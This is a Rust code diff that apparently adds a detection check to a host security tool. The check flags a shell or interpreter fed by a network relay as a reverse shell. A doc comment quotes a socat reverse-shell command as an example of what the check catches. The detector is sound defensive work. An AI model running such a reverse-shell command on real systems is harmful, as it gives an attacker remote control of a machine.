@@ -100,6 +100,9 @@ pub fn check(ctx: &Context, out: &mut Out) {
         let Some(kind) = classify(process) else {
             continue;
         };
+        if kind == Kind::Relay {
+            fed_by_relay(ctx, view, out);
+        }
         for (socket, fds) in &view.sockets {
             let stdio: Vec<&str> = [(0, "input"), (1, "output")]
                 .iter()
@@ -148,6 +151,61 @@ pub fn check(ctx: &Context, out: &mut Out) {
                 reason,
             });
         }
+    }
+}
+
+/// A shell or interpreter that a relay started and feeds (`socat TCP:host:4444 EXEC:/bin/sh`):
+/// its standard input and output are pipes or a socket pair to the relay, not network sockets,
+/// so only the relay's connection links it to the network. A relay holding an established
+/// connection with a shell as its child is a reverse shell. The finding names the relay, which
+/// holds what `close` can act on.
+fn fed_by_relay(ctx: &Context, view: &super::super::context::ProcessView, out: &mut Out) {
+    let relay = view.process;
+    let Some((connection, _)) = view
+        .sockets
+        .iter()
+        .find(|(s, _)| s.state == SocketState::Established)
+    else {
+        return;
+    };
+    let children = match ctx.platform.children(relay.pid) {
+        Ok(Some(children)) => children,
+        Ok(None) => return,
+        Err(unsupported) => return out.not_checked(CheckId::ShellSocket, unsupported),
+    };
+    for child in children {
+        let Some(identity) = ctx.platform.identity(child) else {
+            continue;
+        };
+        let kind = identity
+            .exe
+            .as_deref()
+            .and_then(|e| e.file_name())
+            .and_then(|n| n.to_str())
+            .and_then(classify_name)
+            .or_else(|| classify_name(&identity.name));
+        let Some(kind @ (Kind::Shell | Kind::Interpreter)) = kind else {
+            continue;
+        };
+        let shell = Process {
+            exe: identity.exe.clone(),
+            ..Process::new(child, relay.pid, identity.name.clone())
+        };
+        out.findings.push(Finding {
+            severity: Severity::Alert,
+            check: CheckId::ShellSocket,
+            sockets: vec![SocketRef::of(connection)],
+            reason: format!(
+                "{} ({}) is fed by {} (network relay), which holds a connection with {}: a reverse shell through a relay",
+                label(&shell),
+                kind.noun(),
+                label(relay),
+                connection.remote
+            ),
+            // The relay holds the connection: stopping it (the next step) cuts the shell off.
+            process: Some(relay.clone()),
+            next_step: None,
+        });
     }
 }
 
